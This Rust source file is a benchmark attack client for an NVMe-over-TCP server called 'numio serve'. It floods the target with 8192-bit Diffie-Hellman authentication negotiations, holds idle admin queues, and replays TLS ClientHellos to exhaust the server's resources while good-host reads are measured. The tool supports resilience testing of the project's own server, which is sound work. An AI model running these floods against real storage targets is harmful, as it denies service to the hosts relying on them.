//! The attacks of issue 38 on `numio serve`, for `bench/serve-attack.sh`:
//! a client that speaks raw NVMe/TCP (or replays a TLS ClientHello) and
//! holds or loads the target while a good host's reads are measured. Not a
//! test: it runs until its time is up.
//!
//! ```text
//! serve_attack [--from IP] [--tls-key FILE] [--groups G] MODE ADDR SUBNQN HOSTNQN CONNECTIONS SECONDS
//! serve_attack gen-secret | gen-tls-key
//! ```
//! - `gen-secret`: prints a fresh DH-HMAC-CHAP secret (`DHHC-1:00:...:`),
//!   `gen-tls-key` a fresh TLS PSK (`NVMeTLSkey-1:01:...:`), for the
//!   target's configuration.
//! - `--from IP`: every socket's source address (a 127.0.0.x other than
//!   the good host's stands for another machine); by default the kernel's
//!   choice.
//! - `dh-flood`: each connection Connects as HOSTNQN (a host that must
//!   authenticate; the secret is not needed) and loops AUTH_Send Negotiate
//!   (sha256, ffdhe8192 only) and AUTH_Receive, asking the target for an
//!   8192-bit key pair each time; when the target ends the queue (its
//!   Negotiate limit, a DH budget) it reconnects.
//! - `idle-admin`: CONNECTIONS admin queues Connect with KATO 0 and send
//!   nothing more, holding controllers; each that is closed is reopened
//!   (50 ms after a refusal).
//! - `tls-hello`: one TLS ClientHello for HOSTNQN → SUBNQN with the key in
//!   `--tls-key`, offering the key exchange groups `--groups` (default
//!   `ffdhe8192`), is made once; then each connection sends those bytes on
//!   a new socket, reads what the target answers until it closes or sends
//!   its first flight (a ServerHello, or an alert), and closes: the
//!   target's cost of a hello, the attacker's only a socket.
//!
//! It prints one line at the end: what it did (`challenges N`, `connects N`;
//! for `tls-hello`, `answered N` hellos the target answered with a
//! ServerHello, `connects N` sockets).

use std::ffi::CString;
use std::io::{ErrorKind, Read, Write};
use std::net::{IpAddr, SocketAddr, TcpListener, TcpStream};
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};

use nvme_spec::auth::{self as wire, Message, Negotiate, FCTYPE_AUTH_RECEIVE, FCTYPE_AUTH_SEND};
use nvmf::auth::{DhGroup, HashFn};
use nvmf::host::Stream;
use nvmf::tls::ConfiguredPsk;
use nvmf::{Initiator, InitiatorOptions};

fn usage() -> ! {
    eprintln!(
        "usage: serve_attack [--from IP] [--tls-key FILE] [--groups G] \
         dh-flood|idle-admin|tls-hello ADDR SUBNQN HOSTNQN CONNECTIONS SECONDS"
    );
    std::process::exit(2)
}

struct Args {
    addr: SocketAddr,
    from: Option<IpAddr>,
    subnqn: String,
    hostnqn: String,
    until: Instant,
    /// `tls-hello`: the ClientHello each socket sends.
    hello: Arc<Vec<u8>>,
    /// What every thread did so far.
    tally: Arc<Tally>,
}

/// What the attack did so far, over all threads (a reporter prints it
/// each second): `done` counts DH challenges (dh-flood), queues connected
/// (idle-admin) or hellos answered (tls-hello); `connects` sockets opened.
#[derive(Default)]
struct Tally {
    done: AtomicU64,
    connects: AtomicU64,
}

impl Tally {
    fn done(&self) {
        self.done.fetch_add(1, Ordering::Relaxed);
    }
    fn connected(&self) {
        self.connects.fetch_add(1, Ordering::Relaxed);
    }
}

/// A TCP connection to the target, from `a.from` when given.
fn tcp(a: &Args) -> std::io::Result<TcpStream> {
    let Some(from) = a.from else {
        return TcpStream::connect_timeout(&a.addr, Duration::from_secs(1));
    };
    use rustix::net::{bind, connect, socket, AddressFamily};
    let family = if from.is_ipv4() {
        AddressFamily::INET
    } else {
        AddressFamily::INET6
    };
    let fd = socket(family, rustix::net::SocketType::STREAM, None)?;
    bind(&fd, &SocketAddr::new(from, 0))?;
    connect(&fd, &a.addr)?;
    Ok(TcpStream::from(fd))
}

fn connect(a: &Args, kato_ms: u32) -> Option<Initiator> {
    let o = InitiatorOptions {
        hostnqn: a.hostnqn.clone(),
        kato_ms,
        timeout: Duration::from_secs(1),
        ..Default::default()
    };
    let t = tcp(a).ok()?;
    a.tally.connected();
    t.set_nodelay(true).ok()?;
    t.set_read_timeout(Some(o.timeout)).ok()?;
    t.set_write_timeout(Some(o.timeout)).ok()?;
    let mut i = Initiator::over(Stream::Plain(t), &o).ok()?;
    // A host that must authenticate gets ATR set: an Auth error here, and
    // the queue is connected. Any other error is a refusal: the caller
    // backs off before it tries again.
    match i.fabrics_connect(&a.subnqn, 0, 0xFFFF) {
        Ok(_) | Err(nvmf::InitiatorError::Auth(_)) => Some(i),
        Err(_) => None,
    }
}

/// Negotiate + Receive until the queue ends or the time is up; the
/// challenges the target computed.
fn flood_one(a: &Args, i: &mut Initiator) {
    let mut t_id = 1u16;
    while Instant::now() < a.until {
        let neg = Message::Negotiate(Negotiate {
            t_id,
            sc_c: 0,
            hashes: vec![HashFn::Sha256.id()],
            dhgroups: vec![DhGroup::Ffdhe8192.id()],
        })
        .encode();
        t_id = t_id.wrapping_add(1);
        let sent = i.command(
            wire::command(FCTYPE_AUTH_SEND, 0, neg.len() as u32),
            &neg,
            0,
        );
        if sent.is_err() {
            return;
        }
        match i.command(wire::command(FCTYPE_AUTH_RECEIVE, 0, 2048), &[], 2048) {
            Ok(c) => match Message::decode(&c.data) {
                Ok(Message::Challenge(_)) => a.tally.done(),
                _ => return,
            },
            Err(_) => return,
        }
    }
}

fn dh_flood(a: &Args) {
    while Instant::now() < a.until {
        match connect(a, 5000) {
            Some(mut i) => {
                flood_one(a, &mut i);
            }
            None => std::thread::sleep(Duration::from_millis(50)),
        }
    }
}

fn idle_admin(a: &Args) {
    while Instant::now() < a.until {
        let Some(mut i) = connect(a, 0) else {
            std::thread::sleep(Duration::from_millis(50));
            continue;
        };
        a.tally.done();
        // Hold it: wait for the target to close it (or the time to end).
        while Instant::now() < a.until {
            match i.recv_pdu_bytes() {
                Err(nvmf::InitiatorError::Io(e))
                    if matches!(e.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut) => {}
                _ => break,
            }
        }
    }
}

/// The first TLS record a client sends for `hostnqn` → `subnqn` offering
/// `groups`: its ClientHello, caught by a listener of our own that reads
/// one record and hangs up.
fn client_hello(key: &ConfiguredPsk, hostnqn: &str, subnqn: &str, groups: &str) -> Vec<u8> {
    let l = TcpListener::bind("127.0.0.1:0").expect("a loopback listener");
    let to = l.local_addr().expect("its address");
    let catcher = std::thread::spawn(move || {
        let (mut s, _) = l.accept().expect("the client's socket");
        let mut head = [0u8; 5];
        s.read_exact(&mut head).expect("a TLS record header");
        let len = u16::from_be_bytes([head[3], head[4]]) as usize;
        let mut rec = head.to_vec();
        rec.resize(5 + len, 0);
        s.read_exact(&mut rec[5..]).expect("the ClientHello");
        rec
    });
    let c = TcpStream::connect(to).expect("connect to our listener");
    c.set_read_timeout(Some(Duration::from_secs(5))).ok();
    let groups = CString::new(groups).unwrap_or_else(|_| usage());
    // The listener hangs up after the hello: the handshake fails here.
    let _ = nvmf::tls::ossl::connect_offering(c, key, hostnqn, subnqn, &groups);
    let rec = catcher.join().expect("the catcher");
    assert_eq!(rec[0], 22, "the first record is a handshake");
    rec
}

/// Sends the canned ClientHello on new sockets until the time is up,
/// counting the hellos answered with a ServerHello and the sockets.
fn tls_hello(a: &Args) {
    let mut buf = [0u8; 4096];
    while Instant::now() < a.until {
        let Ok(mut s) = tcp(a) else {
            std::thread::sleep(Duration::from_millis(50));
            continue;
        };
        a.tally.connected();
        s.set_read_timeout(Some(Duration::from_secs(1))).ok();
        if s.write_all(&a.hello).is_err() {
            continue;
        }
        // The target's first record: a handshake (ServerHello) or an
        // alert; then hang up, as a client that never finishes would.
        if let Ok(n) = s.read(&mut buf) {
            if n > 0 && buf[0] == 22 {
                a.tally.done();
            }
        }
    }
}

fn main() {
    let mut v: Vec<String> = std::env::args().skip(1).collect();
    match v.first().map(String::as_str) {
        Some("gen-secret") => {
            println!(
                "{}",
                nvmf::auth::Secret::generate(32, None).encode().as_str()
            );
            return;
        }
        Some("gen-tls-key") => {
            println!("{}", ConfiguredPsk::generate(32).encode().as_str());
            return;
        }
        _ => {}
    }
    let (mut from, mut key, mut groups) = (None, None, "ffdhe8192".to_string());
    while v.first().is_some_and(|f| f.starts_with("--")) {
        let flag = v.remove(0);
        if v.is_empty() {
            usage();
        }
        let value = v.remove(0);
        match flag.as_str() {
            "--from" => from = Some(value.parse::<IpAddr>().unwrap_or_else(|_| usage())),
            "--tls-key" => {
                key = Some(
                    ConfiguredPsk::from_file(value.as_ref()).unwrap_or_else(|e| {
                        eprintln!("serve_attack: {value}: {e}");
                        std::process::exit(2)
                    }),
                )
            }
            "--groups" => groups = value,
            _ => usage(),
        }
    }
    if v.len() != 6 {
        usage();
    }
    let conns: usize = v[4].parse().unwrap_or_else(|_| usage());
    let secs: u64 = v[5].parse().unwrap_or_else(|_| usage());
    let (run, what): (fn(&Args), _) = match v[0].as_str() {
        "dh-flood" => (dh_flood, "challenges"),
        "idle-admin" => (idle_admin, "queues"),
        "tls-hello" => (tls_hello, "answered"),
        _ => usage(),
    };
    let hello = match (v[0].as_str(), &key) {
        ("tls-hello", Some(k)) => client_hello(k, &v[3], &v[2], &groups),
        ("tls-hello", None) => usage(),
        _ => Vec::new(),
    };
    let hello = Arc::new(hello);
    let start = Instant::now();
    let until = start + Duration::from_secs(secs);
    let tally = Arc::new(Tally::default());
    let threads: Vec<_> = (0..conns)
        .map(|_| {
            let a = Args {
                addr: v[1].parse().unwrap_or_else(|_| usage()),
                from,
                subnqn: v[2].clone(),
                hostnqn: v[3].clone(),
                until,
                hello: hello.clone(),
                tally: tally.clone(),
            };
            std::thread::spawn(move || run(&a))
        })
        .collect();
    // For the bench: the attack is under way (an event to wait for), then
    // what it did so far each second (a bench killed it before its end).
    eprintln!("serve_attack: started {conns} {}", v[0]);
    let line = |t: &Tally| {
        let at = start.elapsed().as_secs_f64();
        let (d, c) = (
            t.done.load(Ordering::Relaxed),
            t.connects.load(Ordering::Relaxed),
        );
        format!("{} at {at:.1} s: {what} {d} connects {c}", v[0])
    };
    while Instant::now() < until && !threads.iter().all(|t| t.is_finished()) {
        std::thread::sleep(Duration::from_secs(1));
        eprintln!("serve_attack: {}", line(&tally));
    }
    for t in threads {
        t.join().expect("attack thread");
    }
    println!("{}", line(&tally));
}
